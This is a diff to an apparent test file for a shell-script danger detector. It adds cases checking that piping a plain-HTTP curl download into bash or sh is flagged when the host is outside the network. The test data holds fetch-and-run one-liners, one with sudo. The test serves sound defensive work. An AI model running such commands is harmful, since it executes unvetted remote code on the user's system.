@@ -83,3 +83,14 @@ def test_each_weakening_is_named(script: str) -> None:
 ])
 def test_look_alikes_are_not_weakenings(script: str) -> None:
     assert not dangers(script)
+
+
+@pytest.mark.parametrize(("script", "fires"), [
+    ("curl -fsSL http://203.0.113.77/agent/bootstrap.sh | sudo bash", True),
+    ("curl -fsSL http://get.example.com/install.sh | sh", True),
+    ("curl -s http://repo.internal/bootstrap.sh | bash", False),
+    ("curl -s http://192.168.4.7:8080/bootstrap.sh | bash", False),
+    ("curl -fsSL https://get.example.com/install.sh | sh", False),
+])
+def test_a_plain_http_download_into_a_shell_from_outside_the_network(script: str, fires: bool) -> None:
+    assert bool(dangers(script)) is fires
